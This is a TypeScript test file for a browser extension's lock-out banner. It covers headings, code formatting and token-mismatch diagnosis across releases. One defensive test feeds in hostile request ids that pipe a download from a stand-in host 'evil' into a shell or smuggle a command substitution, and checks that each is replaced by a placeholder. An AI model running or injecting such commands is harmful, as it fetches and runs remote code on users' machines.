import { describe, expect, it } from 'vitest';
import { bannerHeading, bannerSentences, type BannerFacts } from './banner-text';
import { plainText, type Rich } from './command-values';
import { TITLES, diagnose, type LockoutKind } from './lockout';
import { parseRelease } from './release';

const FACTS: BannerFacts = { lockouts: [], release: null, deviceToken: 'stored', clearedKeys: [], clearedAutomatically: false, undo: null, sharedTokenInTab: false };

describe('banner text', () => {
  it('has its own heading and sentence for every lock-out', () => {
    const seen = new Set<string>();
    for (const kind of Object.keys(TITLES) as LockoutKind[]) {
      const facts = { ...FACTS, lockouts: [{ kind }] };
      expect(bannerHeading(facts)).toBe(TITLES[kind]);
      const [sentence] = bannerSentences(facts);
      expect(sentence, kind).toBeTruthy();
      seen.add(plainText(sentence!));
    }
    // password mismatch and missing share one sentence.
    expect(seen.size).toBe(Object.keys(TITLES).length - 1);
  });

  it('fills in the pairing request id', () => {
    expect(bannerSentences({ ...FACTS, lockouts: [{ kind: 'pairing-required', requestId: 'req-1' }] })[0]).toContainEqual({ code: 'openclaw devices approve req-1' });
  });

  it('says to keep the allowed origins already listed', () => {
    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'origin-not-allowed' }] });
    expect(sentence).toContainEqual({ code: 'gateway.controlUi.allowedOrigins' });
    expect(plainText(sentence!)).toMatch(/keeping the origins already listed/);
  });

  it('explains a stale device token reported as a gateway token mismatch', () => {
    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch' }] });
    expect(plainText(sentence!)).toMatch(/2026\.2\.22 to 2026\.3\.6/);
  });

  it('says what was cleared while the gateway token is still wrong', () => {
    const sentences = bannerSentences({ ...FACTS, lockouts: [{ kind: 'gateway-token-mismatch' }], deviceToken: 'cleared', clearedKeys: ['k'] });
    expect(sentences).toHaveLength(2);
    expect(sentences[1]).toContainEqual({ code: 'k' });
  });
});

const codeSegments = (text: Rich) => text.filter((segment) => typeof segment !== 'string');
const CLEARED: BannerFacts = { ...FACTS, deviceToken: 'cleared', undo: 'available' };

describe('page strings never become formatting in the banner', () => {
  it('a key name with backticks stays one code segment, verbatim', () => {
    const key = 'openclaw.device.auth.v1:ws://x`<b>`y`';
    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: [key] });
    expect(codeSegments(sentence!)).toEqual([{ code: key }, { code: 'openclaw gateway auth-token --show' }, { code: 'openclaw config get gateway.auth.token' }]);
  });

  it('each key name is its own code segment, and plain text has no stray backticks', () => {
    const keys = ['a`b', '`', '``', 'c'];
    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: keys, sharedTokenInTab: true });
    expect(codeSegments(sentence!)).toEqual(keys.map((key) => ({ code: key })));
    for (const segment of sentence!) if (typeof segment === 'string') expect(segment).not.toContain('`');
  });

  it('long key names are cut, and a long list is counted', () => {
    const keys = Array.from({ length: 8 }, (_, i) => `openclaw.device.auth.v1:ws://${String(i).repeat(1024 * 128)}`);
    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: keys, sharedTokenInTab: true });
    const shown = codeSegments(sentence!) as { code: string }[];
    expect(shown).toHaveLength(5);
    for (const { code } of shown) expect(code.length).toBeLessThanOrEqual(200);
    expect(plainText(sentence!)).toContain('and 3 more');
    expect(plainText(sentence!).length).toBeLessThan(2000);
  });

  it('only the extension’s own words mark code, for every lock-out', () => {
    for (const kind of Object.keys(TITLES) as LockoutKind[]) {
      for (const deviceToken of ['stored', 'none', 'cleared'] as const) {
        for (const sentence of bannerSentences({ ...FACTS, deviceToken, clearedKeys: ['k`<i>`'], lockouts: [{ kind }] })) {
          for (const segment of sentence) if (typeof segment === 'string') expect(segment, kind).not.toContain('`');
        }
      }
    }
  });
});

describe('page data never becomes a shell command in the banner', () => {
  it.each(['x; curl evil | sh #', '$(curl evil)', '`curl evil`', '--latest', 'r'.repeat(129), 'abc\ndef'])('a hostile request id %j is replaced by <requestId>', (requestId) => {
    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'pairing-required', requestId }] });
    expect(sentence).toContainEqual({ code: 'openclaw devices approve <requestId>' });
    expect(sentence).toContainEqual({ code: 'openclaw devices list' });
    expect(plainText(sentence!)).not.toContain(requestId);
  });
});

describe('diagnose', () => {
  const B = [{ kind: 'gateway-token-mismatch' as const }];
  it('reads B with a stored device token and no gateway token as A (2026.2.22–3.6)', () => {
    expect(diagnose(B, { deviceTokenStored: true, sharedTokenHeld: false })).toEqual([{ kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch' }]);
  });
  it('keeps B on a known release outside 2026.2.22–3.6', () => {
    const stored = { deviceTokenStored: true, sharedTokenHeld: false };
    expect(diagnose(B, stored, parseRelease('2026.9.6'))).toEqual(B);
    expect(diagnose(B, stored, parseRelease('2026.2.21'))).toEqual(B);
    expect(diagnose(B, stored, parseRelease('2026.3.6'))[0]?.kind).toBe('device-token-mismatch');
    expect(diagnose([{ kind: 'connect-failed', clientClosed: true }], { deviceTokenStored: true, sharedTokenHeld: false }, parseRelease('2026.4.24'))[0]?.kind).toBe('connect-failed');
  });

  it('keeps B when the tab holds a gateway token, or no device token is stored', () => {
    expect(diagnose(B, { deviceTokenStored: true, sharedTokenHeld: true })).toEqual(B);
    expect(diagnose(B, { deviceTokenStored: false, sharedTokenHeld: false })).toEqual(B);
  });
  it('reads the ≤2026.1.30 "connect failed" with a device token stored as A', () => {
    const closed = { kind: 'connect-failed' as const, clientClosed: true as const };
    expect(diagnose([closed], { deviceTokenStored: true, sharedTokenHeld: true })).toEqual([
      { kind: 'device-token-mismatch', reportedAs: 'connect-failed' },
    ]);
    expect(diagnose([closed], { deviceTokenStored: false, sharedTokenHeld: true })).toEqual([closed]);
    // "gateway connect failed" (3.7+) says nothing about the device token.
    expect(diagnose([{ kind: 'connect-failed' }], { deviceTokenStored: true, sharedTokenHeld: false })).toEqual([{ kind: 'connect-failed' }]);
  });
});
